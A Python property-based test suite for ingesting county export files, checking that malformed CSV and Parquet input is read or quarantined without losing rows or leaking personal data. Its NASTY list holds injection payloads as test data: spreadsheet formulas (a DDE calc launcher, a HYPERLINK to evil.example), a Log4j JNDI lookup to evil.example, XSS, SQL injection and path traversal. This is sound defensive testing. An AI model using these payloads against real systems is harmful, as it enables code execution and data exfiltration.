"""Property-based tests of whole export files: whatever a county sends, nothing crashes and
nothing is lost (design invariant 4: every row accepted, or quarantined with a reason).

Files are generated, not rows: headers with missing, extra, repeated and oddly spelt columns;
cells with spreadsheet formulas, script and SQL injection, control and bidirectional
characters, NULs and enormous values; encodings (UTF-8 with or without a byte-order mark,
Windows-1252, UTF-16) and line endings; rows with the wrong number of fields; binary noise;
Parquet files with columns of every simple type. Each goes through ``read_county_file`` and
``normalise_records``, and through the node's ``ingest_file`` into a real store.

Every generated cell that could carry personal data holds the marker ``ZQX``: no reason, no
error message and no outbox message (what leaves the node) may ever contain it.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import tempfile
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from federation.node.ingest import ingest_file
from federation.node.store import NodeStore
from linkage.errors import InputError
from linkage.normalise import NormalisedRecords, normalise_records
from linkage.records import CANONICAL_COLUMNS, read_county_file
from linkage.tokenise import Tokeniser

MARK = "ZQX"
TODAY = dt.date(2025, 6, 1)

#: Cells an attacker, a careless export or a broken system might send.
NASTY = [
    f"=cmd|' /C calc'!A0{MARK}",
    f'=HYPERLINK("http://evil.example/?{MARK}","click")',
    f"@SUM(1+1){MARK}",
    f"+44{MARK}",
    f"-2+3{MARK}",
    f"\t=1+1{MARK}",
    f"<script>alert('{MARK}')</script>",
    f"<img src=x onerror=alert(1)>{MARK}",
    f"'; DROP TABLE records; --{MARK}",
    f"' OR '1'='1{MARK}",
    f"${{jndi:ldap://evil.example/{MARK}}}",
    f"{{{{7*7}}}}{MARK}",
    f"../../../etc/passwd{MARK}",
    f"{MARK}\x00after a NUL",
    f"{MARK}\u202egnp.exe",
    f"{MARK}\u200b\ufeff",
    f"{MARK}\r\nsecond line",
    f'{MARK} "quoted" , comma',
    f"Zoë-{MARK}\u0301\u0308",
    f"😀👨‍👩‍👧{MARK}",
    MARK * 3000,  # 9,000 characters
    "x" * 200_000 + MARK,  # an enormous cell
]
#: Ordinary values, valid and invalid, for every kind of column.
PLAIN = [
    "",
    " ",
    "R1",
    "HH1",
    "child",
    "adult",
    "carer",
    "Ann",
    "O'Brien",
    "Smith-Jones",
    "2015-02-03",
    "2019-02-30",
    "1899-12-31",
    "03/02/2015",
    "M",
    "F",
    "girl",
    "9434765919",
    "943 476 5918",
    "CV1 2AB",
    "ZZ99 3VZ",
    "1 High St",
    "0",
    "-1",
    "1e308",
    "NaN",
    "null",
    "None",
]
EXTRA_COLUMNS = ["Case Notes", "nhs", "DOB", "", " ", "record id", "Unnamed: 0", "données"]

cells = (
    st.sampled_from(NASTY)
    | st.sampled_from(PLAIN)
    | st.text(max_size=12).map(lambda t: t + MARK)
    | st.text(alphabet="0123456789 -/", max_size=12)
)


@dataclass(frozen=True)
class CsvFile:
    """A generated CSV export and what it should read back as."""

    data: bytes
    header: list[str]
    rows: list[list[str]]
    well_formed: bool  # every row has the header's width, no noise, a readable encoding

    def __repr__(self) -> str:  # keep hypothesis's failure reports short
        widths = sorted({len(r) for r in self.rows})
        return (
            f"CsvFile(header={self.header!r}, rows={len(self.rows)}, widths={widths}, "
            f"bytes={len(self.data)}, well_formed={self.well_formed})"
        )


@st.composite
def headers(draw: st.DrawFn) -> list[str]:
    names = draw(
        st.lists(st.sampled_from([*CANONICAL_COLUMNS, *EXTRA_COLUMNS]), unique=True, max_size=16)
    )
    if draw(st.booleans()) or not names:
        names.insert(draw(st.integers(0, len(names))), "record_id")
    # Spelling as exports do: other cases, stray spaces.
    spelt = [
        draw(st.sampled_from([n, n.upper(), f" {n} ", n.title()])) if n.strip() else n
        for n in names
    ]
    if draw(st.integers(0, 9)) == 0 and spelt:
        spelt.append(spelt[0].upper())  # a column twice
    return spelt


@st.composite
def csv_files(draw: st.DrawFn) -> CsvFile:
    header = draw(headers())
    width = len(header)
    rows = draw(st.lists(st.lists(cells, min_size=width, max_size=width), max_size=12))
    malformed = draw(st.integers(0, 4)) == 0 and bool(rows)
    if malformed:
        victim = draw(st.integers(0, len(rows) - 1))
        change = draw(st.sampled_from(["short", "long"]))
        rows[victim] = rows[victim][:-1] if change == "short" else [*rows[victim], f"extra{MARK}"]
    text = io.StringIO()
    terminator = draw(st.sampled_from(["\n", "\r\n"]))
    writer = csv.writer(text, lineterminator=terminator)
    writer.writerow(header)
    writer.writerows(rows)
    encoding = draw(st.sampled_from(["utf-8", "utf-8", "utf-8-sig", "cp1252", "utf-16"]))
    data = text.getvalue().encode(encoding, errors="replace")
    noise = draw(st.sampled_from(["none", "none", "none", "tail", "head", "only"]))
    if noise != "none":
        junk = draw(st.binary(min_size=1, max_size=64))
        data = {"tail": data + junk, "head": junk + data, "only": junk}[noise]
    # csv.writer quotes a field with a line break only if the break is in its terminator: a
    # bare carriage return otherwise ends up unquoted, and readers rightly split the row there.
    bare_cr = terminator == "\n" and any("\r" in cell for row in rows for cell in row)
    well_formed = (
        noise == "none"
        and not malformed
        and not bare_cr
        and encoding in ("utf-8", "utf-8-sig")
        and width >= 2
        and len({h.strip().casefold() for h in header}) == width
    )
    return CsvFile(data, header, rows, well_formed)


def _check(raw: pd.DataFrame, result: NormalisedRecords, expected_rows: int | None) -> None:
    """Nothing lost, nothing invented, every quarantine with a reason, no value echoed."""
    if expected_rows is not None:
        assert len(raw) == expected_rows
    quarantined = result.quarantined
    assert len(raw) == len(result.records) + len(quarantined)
    rows = set(raw["row_number"])
    kept = set(result.records["row_number"])
    gone = [i.row_number for i in quarantined]
    assert len(set(gone)) == len(gone) and kept.isdisjoint(gone)
    assert kept | set(gone) == rows
    assert all(i.reason.strip() for i in quarantined)
    assert result.records["record_id"].is_unique
    for issue in result.issues:
        assert MARK not in issue.reason, issue


@pytest.fixture(scope="module")
def workdir() -> Iterator[Path]:
    with tempfile.TemporaryDirectory(prefix="ingest-props-") as directory:
        yield Path(directory)


@given(csv_files())
@settings(
    max_examples=150,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)
def test_any_csv_file_is_read_and_every_row_accounted_for(workdir: Path, file: CsvFile) -> None:
    path = workdir / "county.csv"
    path.write_bytes(file.data)
    try:
        raw = read_county_file(path)
    except InputError as e:
        assert str(path) in str(e) and MARK not in str(e)
        # A file with a usable header is never refused as a whole.
        names = {h.strip().casefold() for h in file.header}
        assert not file.well_formed or "record_id" not in names
        return
    result = normalise_records(raw, source="county.csv", today=TODAY)
    _check(raw, result, len(file.rows) if file.well_formed else None)


PARQUET_TYPES = {
    "text": (pa.string(), st.one_of(st.none(), cells)),
    "large_text": (pa.large_string(), st.one_of(st.none(), cells)),
    "int": (pa.int64(), st.one_of(st.none(), st.integers(-(2**63), 2**63 - 1))),
    "float": (
        pa.float64(),
        st.one_of(st.none(), st.floats(allow_nan=True, allow_infinity=True)),
    ),
    "bool": (pa.bool_(), st.one_of(st.none(), st.booleans())),
    "date": (pa.date32(), st.one_of(st.none(), st.dates())),
    "timestamp": (pa.timestamp("us"), st.one_of(st.none(), st.datetimes())),
    "binary": (pa.binary(), st.one_of(st.none(), st.binary(max_size=16))),
    "dictionary": (pa.dictionary(pa.int32(), pa.string()), st.one_of(st.none(), cells)),
    "list": (pa.list_(pa.string()), st.one_of(st.none(), st.lists(cells, max_size=2))),
}


@st.composite
def parquet_tables(draw: st.DrawFn) -> pa.Table:
    names = list(dict.fromkeys(draw(headers())))  # unique by exact name, as Parquet needs
    n = draw(st.integers(0, 8))
    arrays = []
    for _ in names:
        kind = draw(st.sampled_from(sorted(PARQUET_TYPES)))
        arrow_type, values = PARQUET_TYPES[kind]
        column = draw(st.lists(values, min_size=n, max_size=n))
        if kind == "dictionary":
            arrays.append(pa.array(column, pa.string()).dictionary_encode())
        else:
            arrays.append(pa.array(column, arrow_type))
    return pa.table(dict(zip(names, arrays, strict=True)))


@given(parquet_tables())
@settings(max_examples=80, deadline=None, suppress_health_check=[HealthCheck.too_slow])
def test_any_parquet_file_is_read_and_every_row_accounted_for(
    workdir: Path, table: pa.Table
) -> None:
    path = workdir / "county.parquet"
    pq.write_table(table, path)
    try:
        raw = read_county_file(path)
    except InputError as e:
        assert str(path) in str(e) and MARK not in str(e)
        return
    result = normalise_records(raw, source="county.parquet", today=TODAY)
    _check(raw, result, table.num_rows)


# --------------------------------------------------------------------------- through the node


@dataclass(frozen=True)
class Export:
    """A CSV export the node must load: canonical header, any cells."""

    frame: pd.DataFrame

    def __repr__(self) -> str:
        return f"Export(rows={len(self.frame)})"


@st.composite
def exports(draw: st.DrawFn) -> Export:
    columns = ["record_id", *draw(st.lists(st.sampled_from(CANONICAL_COLUMNS[1:]), unique=True))]
    n = draw(st.integers(0, 10))
    data = {c: draw(st.lists(cells, min_size=n, max_size=n)) for c in columns}
    # Mostly distinct ids, sometimes repeated or empty.
    data["record_id"] = [
        draw(st.sampled_from([f"R{i}", "R0", "", f"R{i}{MARK}"])) for i in range(n)
    ]
    return Export(pd.DataFrame(data, columns=columns, dtype=object))


@given(exports())
@settings(
    max_examples=25,
    deadline=None,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.function_scoped_fixture],
)
def test_the_node_accounts_for_every_row_and_publishes_no_plaintext(
    workdir: Path, tokeniser: Tokeniser, export: Export
) -> None:
    path = workdir / "county.csv"
    # CRLF, so that a cell with a carriage return is quoted (see csv_files).
    export.frame.to_csv(path, index=False, lineterminator="\r\n")
    with tempfile.TemporaryDirectory(dir=workdir) as directory:
        store = NodeStore(Path(directory) / "node.duckdb")
        try:
            report = ingest_file(store, path, tokeniser, county="northshire", seed=1)
            assert report.input_rows == len(export.frame)
            assert report.input_rows == report.accepted + report.quarantined
            assert report.accepted == report.upserts + report.unchanged
            quarantine = store.quarantine(report.load_id)
            assert len(quarantine) == report.quarantined
            assert quarantine["reason"].str.strip().str.len().gt(0).all()
            assert not quarantine["reason"].str.contains(MARK, regex=False).any()
            assert store.status()["records"]["active"] == report.accepted
            # What leaves the node: tokens and pseudonyms only, every accepted record once.
            sent = 0
            for entry in store.pending():
                body = store.message_body(entry.message_id)
                assert MARK not in body
                sent += len(json.loads(body)["rows"])
            assert sent == report.upserts == report.accepted
            # The same file again changes nothing and publishes nothing.
            again = ingest_file(store, path, tokeniser, county="northshire", seed=1)
            assert (again.upserts, again.tombstones, again.batches) == (0, 0, 0)
            assert (again.accepted, again.quarantined) == (report.accepted, report.quarantined)
        finally:
            store.close()


# --------------------------------------------------------------------------- found by the above


def test_a_non_utf8_first_line_with_a_carriage_return_is_read(workdir: Path) -> None:
    """Once a raw ``csv.Error`` escaped here (and a node's ingest answered 500)."""
    path = workdir / "county.csv"
    path.write_bytes(b"\xff\rrecord_id,given_name\nR1,Ann\n")
    try:
        raw = read_county_file(path)
    except InputError as e:
        assert str(path) in str(e)
    else:
        _check(raw, normalise_records(raw, source="county.csv", today=TODAY), None)


def test_an_enormous_cell_does_not_sink_a_file_with_a_short_row(workdir: Path) -> None:
    """The careful reader (used when a row is short) once refused a file with a cell over
    128 KiB outright, where the fast reader drops just the value."""
    path = workdir / "county.csv"
    huge = "x" * 200_000
    path.write_text(f"record_id,given_name,address\nR1,Ann,{huge}\nR2,Bob\nR3,Cy,1 High St\n")
    raw = read_county_file(path)
    result = normalise_records(raw, source="county.csv", today=TODAY)
    _check(raw, result, 3)
    assert list(result.records["record_id"]) == ["R1", "R3"]
    assert [i.row_number for i in result.quarantined] == [2]
